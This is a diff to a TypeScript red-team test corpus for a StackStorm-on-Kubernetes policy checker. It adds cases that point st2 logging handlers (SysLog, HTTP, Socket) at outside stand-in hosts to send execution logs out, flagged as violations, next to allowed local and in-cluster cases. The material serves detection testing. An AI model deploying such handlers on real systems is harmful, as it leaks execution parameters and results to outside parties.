@@ -22,7 +22,11 @@
  *   kubelet runs it in the container, with its mounts), rsync -a and scp -r
  *   of a directory holding a Secret's mount (ST2-SEC-016); the same programs
  *   kept inside the cluster, a probe of the pod's own port, a mail without
- *   a file and a recursive copy of the packs stay allowed.
+ *   a file and a recursive copy of the packs stay allowed;
+ * - st2's `[<service>] logging` file (Python's fileConfig) with a SysLog,
+ *   HTTP or Socket handler at an outside host (ST2-SEC-040): records carry
+ *   execution parameters and results; a syslog handler on the node's
+ *   /dev/log or to an in-cluster collector stays allowed.
  */
 import type { Patch, RedTeamCase } from './corpus.js';
 import { bodyCase, type CaseBody } from './case-body.js';
@@ -76,6 +80,15 @@ const probe = (deployment: string, kind: string, command: string[]): CaseBody =>
   patches: [patch({ group: 'apps', kind: 'Deployment', name: deployment }, { op: 'add', path: `${SPEC}/containers/0/${kind}`, value: { exec: { command }, periodSeconds: 30, failureThreshold: 5 } })],
 });
 
+/** st2.user.conf naming a logging file for one service, and that file mounted into its Deployment from a new ConfigMap. */
+const logging = (deployment: string, section: string, handler: string): CaseBody => ({
+  patches: [
+    patch({ kind: 'ConfigMap', name: 'st2-config' }, { op: 'replace', path: '/data/st2.user.conf', value: `# Operator overrides. Highest priority.\n[api]\nallow_origin = '*'\n\n[${section}]\nlogging = /etc/st2/logging.custom.conf\n` }),
+    patch({ group: 'apps', kind: 'Deployment', name: deployment }, { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'logcfg', configMap: { name: 'st2-logging-custom' } } }, { op: 'add', path: `${SPEC}/containers/0/volumeMounts/-`, value: { name: 'logcfg', mountPath: '/etc/st2/logging.custom.conf', subPath: 'logging.conf' } }),
+  ],
+  resources: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'st2-logging-custom' }, data: { 'logging.conf': ['[loggers]', 'keys=root', '[handlers]', 'keys=console,out', '[formatters]', 'keys=plain', '[logger_root]', 'level=INFO', 'handlers=console,out', '[handler_console]', 'class=StreamHandler', 'level=INFO', 'formatter=plain', 'args=(sys.stdout,)', '[handler_out]', ...handler.split('\n'), 'level=INFO', 'formatter=plain', '[formatter_plain]', 'format=%(asctime)s %(levelname)s %(message)s', ''].join('\n') } }],
+});
+
 export function fresh13StoresCorpus(): RedTeamCase[] {
   const cases: RedTeamCase[] = [];
   const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, body: CaseBody): void => {
@@ -124,6 +137,14 @@ export function fresh13StoresCorpus(): RedTeamCase[] {
   add('f13st-probe-local-python-ok', 'secrets', undefined, probe('st2api', 'startupProbe', ['python3', '-c', "import urllib.request as r; r.urlopen('http://127.0.0.1:9101/v1/', timeout=2)"]));
   add('f13st-smtp-notice-ok', 'secrets', undefined, sidecar('st2actionrunner', ['python3', '-c', "import smtplib; m = smtplib.SMTP('smtp.example.org', 587); m.starttls(); m.sendmail('ops@example.org', ['ops@example.org'], 'runner restarted')"]));
   add('f13st-rsync-packs-ok', 'secrets', undefined, shell('st2actionrunner', 'rsync -a /opt/stackstorm/packs/ rsync://artifacts.st2-prod.svc.cluster.local/packs/; sleep infinity'));
+
+  // st2's logs handed to a network handler at an outside host.
+  add('f13st-log-syslog-tcp', 'st2-config', 'ST2-SEC-040', logging('st2api', 'api', "class=logging.handlers.SysLogHandler\nargs=(('siem.example.com', 6514), handlers.SysLogHandler.LOG_LOCAL0, socket.SOCK_STREAM)"));
+  add('f13st-log-http-runner', 'st2-config', 'ST2-SEC-040', logging('st2actionrunner', 'actionrunner', "class=handlers.HTTPHandler\nargs=('ingest.example.org', '/v1/logs', 'POST')"));
+  add('f13st-log-socket', 'st2-config', 'ST2-SEC-040', logging('st2rulesengine', 'rulesengine', "class=handlers.SocketHandler\nargs=('203.0.113.77', 9020)"));
+  // The node's syslog socket, and a collector inside the cluster.
+  add('f13st-log-devlog-ok', 'st2-config', undefined, logging('st2api', 'api', "class=handlers.SysLogHandler\nargs=('/dev/log',)"));
+  add('f13st-log-incluster-ok', 'st2-config', undefined, logging('st2actionrunner', 'actionrunner', "class=handlers.SysLogHandler\nargs=(('fluent-bit.logging.svc.cluster.local', 5140),)"));
 
   return cases;
 }
